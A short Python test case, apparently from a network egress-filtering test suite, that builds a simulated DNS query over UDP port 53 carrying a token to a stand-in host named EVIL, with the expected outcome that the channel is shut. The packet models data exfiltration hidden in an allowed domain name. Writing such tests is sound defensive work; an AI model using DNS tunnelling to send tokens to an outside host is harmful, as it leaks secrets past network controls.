"""
how: in an allowed site's name
expect: shut
"""

from frames import by, gateway, ipv4, udp_part
from land import EVIL, SHARED


def attempt(token):
    return by(gateway(), ipv4(EVIL, 17, udp_part(EVIL, 53, token, source=SHARED), source=SHARED))
